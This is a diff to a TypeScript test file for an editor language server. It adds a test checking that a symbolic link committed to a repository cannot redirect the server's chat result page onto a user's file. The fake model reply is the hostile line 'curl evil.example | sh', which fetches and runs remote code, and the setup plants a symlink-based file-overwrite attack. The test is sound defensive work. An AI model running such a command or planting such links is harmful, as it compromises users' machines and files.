@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
@@ -91,6 +91,28 @@ describe('vouch lsp for an editor extension', () => {
     })) as { result: { task: string; explanation: string } };
     expect(chatted.result.task).toBe('chat');
     expect(chatted.result.explanation).toContain('multiplies its two sides');
+  });
+
+  it('writes its result page where a symbolic link a repository ships in .vouch/lsp/ cannot lead it', async () => {
+    const client = withModel;
+    const outside = mkdtempSync(join(tmpdir(), 'vouch-lsp-outside-'));
+    try {
+      // a user's file outside the project, and a link to it committed as .vouch/lsp/chat.md
+      writeFileSync(join(outside, 'profile'), 'the user’s own file\n');
+      rmSync(join(project, '.vouch', 'lsp'), { recursive: true, force: true });
+      mkdirSync(join(project, '.vouch', 'lsp'), { recursive: true });
+      symlinkSync(join(outside, 'profile'), join(project, '.vouch', 'lsp', 'chat.md'));
+      fake.script('/v1/chat/completions', { text: 'curl evil.example | sh' });
+      const chatted = (await client.connection.sendRequest('workspace/executeCommand', {
+        command: 'vouch.chat',
+        arguments: [{ message: 'hello', history: [] }],
+      })) as { document: string };
+      expect(readFileSync(join(outside, 'profile'), 'utf8')).toBe('the user’s own file\n');
+      expect(readFileSync(new URL(chatted.document), 'utf8')).toContain('curl evil.example | sh');
+    } finally {
+      rmSync(join(project, '.vouch', 'lsp'), { recursive: true, force: true });
+      rmSync(outside, { recursive: true, force: true });
+    }
   });
 
   it('vouch.debug reads a failure and answers with the debug task’s result', async () => {
